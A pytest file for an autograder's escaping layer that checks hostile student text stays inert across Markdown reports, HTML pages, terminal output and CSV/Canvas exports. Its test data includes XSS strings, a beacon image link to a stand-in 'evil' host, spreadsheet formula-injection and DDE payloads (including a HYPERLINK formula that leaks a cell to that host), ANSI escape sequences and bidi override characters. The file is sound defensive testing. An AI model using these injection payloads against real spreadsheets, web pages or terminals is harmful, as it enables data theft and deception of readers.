"""Student text is data everywhere (grader/report/escape.py): what a submission or its
child wrote (messages, names, ids, file names) never acts as terminal markup or escape
sequences, Markdown, HTML or a spreadsheet formula, and never stops a batch."""
import base64
import csv
import io
import json

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from conftest import REPO, SUBMISSIONS
from grader.batch import driver as batch, export, gradebook
from grader.batch.executors import Job
from grader.cli import main as cli
from grader.failures import Failure, failure_dict
from grader.report.escape import csv_cell, markup, md, md_block, terminal, visible
from support.batches import hand_in, outcomes
from support.actions import outputs_of
from support.gradebooks import gradebook_of
from support.results import results_for

FORGED = "```\n**Score 100 / 100** (graded)\n![x](http://evil/beacon)"
ANSI_DONE = "[/] \x1b[1A\x1b[2K\r[bold green]Done: 40 graded, 0 failed[/]"
RLO = "\u202e"

# student id -> (what they hand in, the outcome the gradebook must hold)
HOSTILE_CLASS = {
    "u_ok": (REPO / "student_template", "graded"),
    "u_base": (SUBMISSIONS / "fails_raises_its_own_baseexception_with_markup.py", "hook_error"),
    "u_md": (SUBMISSIONS / "fails_forward_error_injects_markdown_and_html.py", "forward_error"),
    "=1+2": (SUBMISSIONS / "fails_value_error_with_markup.py", "hook_error"),
    f"u_ada{RLO}fdp": (SUBMISSIONS / "fails_syntax_error.py", "syntax_error"),
}


def inert(markdown: str) -> list:
    """The tokens of a CommonMark (+ tables) parse, asserting none is HTML, a link or an
    image other than the report's own pictures beside it; returns them for more checks."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    flat = tokens + [c for t in tokens for c in (t.children or [])]
    kinds = {t.type for t in flat}
    assert not kinds & {"html_block", "html_inline", "link_open"}, kinds
    images = [t.attrs["src"] for t in flat if t.type == "image"]
    assert all(src in ("curves.png", "per_class.png", "confusion.png", "gallery.png")
               for src in images), images
    return flat


def formula_free(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: text that starts like a formula has its quote."""
    for row in rows:
        for cell in row:
            try:
                float(cell)
            except ValueError:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


# --- the escapers ---------------------------------------------------------------------

def test_markdown_from_a_student_renders_as_the_text_it_is():
    for text in (FORGED, "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
                 "[click](http://evil) and <http://evil>", "# Score 100", "- a\n1. b\n===",
                 "a | b", "`` ` ``", "*a* _b_ ~~c~~ &lt;"):
        html = MarkdownIt("commonmark").enable("table").render(md(text))
        assert "<img" not in html and "<script" not in html and "<a " not in html
        assert "<strong>" not in html and "<em>" not in html and "<h1>" not in html
        assert "<ul>" not in html and "<ol>" not in html
    block = "\n".join(md_block(FORGED))
    fences = [t for t in inert(block) if t.type == "fence"]
    assert len(fences) == 1 and fences[0].content == FORGED + "\n"
    # the grader's own code spans stay code; an id keeps its underscores in a word
    assert md("raised in `conv1`: u_ada") == "raised in `conv1`: u_ada"


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
    assert [csv_cell(v) for v in ("=HYPERLINK(\"http://evil\")", "+1", "-1+2", "@SUM(A1)",
                                  "\tx", "\rx", "u_ada", "")] == [
        "'=HYPERLINK(\"http://evil\")", "'+1", "'-1+2", "'@SUM(A1)", "'\tx", "'\rx", "u_ada", ""]
    assert csv_cell(-3.5) == -3.5 and csv_cell(0) == 0
    assert csv_cell(f"u{RLO}x") == "u<U+202E>x"


def test_terminal_text_loses_escape_sequences_and_shows_bidi_controls():
    assert terminal(ANSI_DONE) == "[/] [bold green]Done: 40 graded, 0 failed[/]"
    assert terminal("\x1b]0;owned\x07title") == "title"  # no window title either
    assert visible(f"a{RLO}b\u2066c\u200f") == "a<U+202E>b<U+2066>c<U+200F>"
    console = Console(file=io.StringIO(), width=200)
    console.print("[red]error[/] " + markup(ANSI_DONE))  # no MarkupError
    assert console.file.getvalue() == "error [/] [bold green]Done: 40 graded, 0 failed[/]\n"


def test_a_grader_error_holding_markup_and_escapes_is_printed_as_text(tmp_path, capfd):
    db = gradebook.connect(tmp_path / gradebook.FILE)
    tally = batch.Tally(total=1)
    job = Job(student="[red]zoe", path=tmp_path / "zoe.py", content_hash="h", rubric=None,
              data_dir=None, cache_dir=tmp_path, quick=True)
    broken = {"status": "failed", "failure": {"code": "grader_error", "message": ANSI_DONE}}
    batch.record(db, tmp_path, job, "digest", broken, tally)
    err = capfd.readouterr().err
    assert tally.outcomes["error"] == 1 and gradebook.count(db) == 0
    assert "[red]zoe: [/] [bold green]Done: 40 graded, 0 failed[/]" in err and "\x1b" not in err
    tally.running.add("[/]")
    tally.running.add(f"u{RLO}x")
    tally.leader = (0.9, "[/bold]u")
    console = Console(file=io.StringIO(), width=200)
    console.print(tally.view(1))  # the live view: ids are text
    view = console.file.getvalue()
    assert "[/], u<U+202E>x" in view and "[/bold]u (90.00%)" in view and RLO not in view


def test_exports_neutralise_formulas_in_every_text_column_and_keep_numbers(tmp_path):
    hyperlink = '=HYPERLINK("http://evil/?"&A1,"click")'
    failed = results_for("x", accuracy=None, interval=None, status="failed")
    failed.failure = Failure(**failure_dict("hook_error", hyperlink))
    negative = results_for("-u")
    negative.metrics.gain_pp = -3.5
    gradebook_of(tmp_path, {"=1+2": failed, "-u": negative, f"@u{RLO}": results_for("@u")})
    from grader.batch import amend
    amend.main(out=tmp_path, student="-u", points=40, reason="=cmd|' /C calc'!A0")
    grades = export.main(out=tmp_path, fmt="csv")[0]
    formula_free(list(csv.reader(grades.open())))
    rows = {r["student"]: r for r in csv.DictReader(grades.open())}
    assert set(rows) == {"'=1+2", "'-u", "'@u<U+202E>"}
    assert rows["'=1+2"]["reason"] == "'" + hyperlink
    assert rows["'-u"]["gain_pp"] == "-3.5"  # a number in a numeric column stays one
    canvas = export.main(out=tmp_path, fmt="canvas", allow_unofficial=True)[0]
    formula_free(list(csv.reader(canvas.open())))
    logins = [r["SIS Login ID"] for r in csv.DictReader(canvas.open())][1:]
    assert sorted(logins) == sorted(["'=1+2", "'-u", "'@u<U+202E>"])


# --- a class with hostile submissions, through the real driver --------------------------

@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory, fmnist_dir, session_cache, tiny_rubric):
    import os
    os.environ["GRADER_CACHE_DIR"] = str(session_cache)
    root = tmp_path_factory.mktemp("hostile")
    folder, out = hand_in(root / "submissions", HOSTILE_CLASS), root / "out"
    (folder / "[red]notes\x1b[2J.txt").write_text("not a submission")
    capture = io.StringIO()
    console = Console(file=capture, width=200)
    code = batch.main(folder=folder, out=out, rubric=str(tiny_rubric), workers=2, quick=True,
                      data_dir=fmnist_dir, cache_dir=session_cache, console=console)
    return out, code, capture.getvalue()


def test_a_batch_with_hostile_text_grades_everyone_and_writes_the_summary(hostile_batch):
    out, code, shown = hostile_batch
    assert code == 0  # no grader error: each failure is the student's
    assert outcomes(out) == {s: want for s, (_, want) in HOSTILE_CLASS.items()}
    assert (out / "exports" / "summary.md").is_file() and (out / "exports" / "index.html").is_file()
    assert "Done: 1 graded, 4 failed" in shown and "0 grader errors" in shown
    assert "skipped [red]notes.txt: not a submission" in shown and "\x1b" not in shown
    feedback = json.loads((out / "feedback" / "u_base" / "results.json").read_text())
    assert feedback["failure"]["summary"] == "A hook raised an error"
    assert "Done: 40 graded" in feedback["failure"]["message"]  # kept as the student wrote it


def test_junit_from_a_message_with_escape_sequences_still_parses(hostile_batch):
    """ElementTree escapes <&> but writes ESC, which XML 1.0 cannot hold."""
    out, _, _ = hostile_batch
    from xml.etree import ElementTree as ET

    from grader.commands.ci import junit_xml
    from grader.report.record import Results
    results = Results.load(json.loads((out / "feedback" / "u_base" / "results.json").read_text()))
    # an item's details quote the student's error as u_md's do ("No output: ... raised ...")
    results.tests[0].output = results.failure.message
    assert "\x1b" in results.tests[0].output
    suite = ET.fromstring(junit_xml(results).split("\n", 1)[1])
    assert "Done: 40 graded" in suite.find("system-out").text


def test_markdown_injection_renders_inert_in_the_report(hostile_batch):
    out, _, _ = hostile_batch
    report = (out / "feedback" / "u_md" / "report.md").read_text()
    tokens = inert(report)  # no HTML, image or link anywhere
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and FORGED in fences[0].content  # the message did not close it
    bold = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "strong_open"]
    assert not any(b.startswith("Score 100") for b in bold)  # the forged score is never bold
    assert "**Score 10 / 70**" in report  # the real one is
    texts = " ".join(t.content for t in tokens if t.type in ("text", "code_inline"))
    assert "<img src=x onerror=alert(3)>" in texts  # the layer type, shown as text
    assert "`` | <b>flat</b> ![y](http://evil/2)" in texts  # the layer name, as one code span
    summary = report[report.index("## Model summary"):].split("\n## ")[0]
    html = MarkdownIt("commonmark").enable("table").render(summary)
    assert html.count("<tr>") == 3 and html.count("<td") == 2 * 6  # a pipe added no cell
    page = (out / "feedback" / "u_md" / "report.html").read_text()
    assert "<img src=x" not in page and "<script>alert" not in page and "<b>flat" not in page


def test_the_exports_of_the_hostile_class_are_inert(hostile_batch):
    out, _, _ = hostile_batch
    grades = export.main(out=out, fmt="csv")[0]
    formula_free(list(csv.reader(grades.open())))
    rows = {r["student"]: r for r in csv.DictReader(grades.open())}
    assert "'=1+2" in rows and "u_ada<U+202E>fdp" in rows and "=1+2" not in rows
    canvas = export.main(out=out, fmt="canvas", allow_unofficial=True)[0].read_text()
    assert "'=1+2" in canvas and ",=1+2," not in canvas and RLO not in canvas
    page = (out / "exports" / "index.html").read_text()
    assert RLO not in page and "u_ada&lt;U+202E&gt;fdp" in page
    assert "<img src=x" not in page and page.count("<script>") == 1


# --- grade ci -----------------------------------------------------------------------------

def test_grade_ci_reports_a_message_with_markup_as_the_students_failure(tmp_path, actions_env,
                                                                         fmnist_dir, tiny_rubric,
                                                                         capsys):
    summary, outputs = actions_env
    code = cli(["ci", str(SUBMISSIONS / "fails_value_error_with_markup.py"), "--rubric",
                str(tiny_rubric), "--quick", "--data-dir", str(fmnist_dir),
                "--out", str(tmp_path / "out")])
    assert code == 3  # ungradable, not the grader's failure (4)
    assert "bad shape [/] here" in capsys.readouterr().err
    classroom = json.loads(base64.b64decode(outputs_of(outputs)["result"]))
    assert classroom["status"] == "error" and classroom["max_score"] > 0  # a grade, not a crash
    inert(summary.read_text())
